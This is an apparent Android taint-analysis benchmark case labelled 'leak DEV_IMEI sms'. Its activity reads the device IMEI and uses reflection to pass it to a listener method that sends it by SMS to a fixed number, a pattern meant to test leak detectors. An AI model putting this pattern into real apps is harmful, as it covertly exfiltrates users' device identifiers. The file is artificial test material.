// about       All methods whose name begins with "on" are called; one of them sends.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String id = phone.getDeviceId();
    Listeners listeners = new Listeners();
    try {
      for (Method method : Listeners.class.getDeclaredMethods()) {
        // Only these names are called.
        if (method.getName().startsWith("on")) {
          method.invoke(listeners, id);
        }
      }
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

class Listeners {
  private int calls;

  void onStarted(String id) {
    calls++;
  }

  void onDevice(String id) {
    SmsManager.getDefault().sendTextMessage("10690000", null, "device " + id, null, null);
  }
}
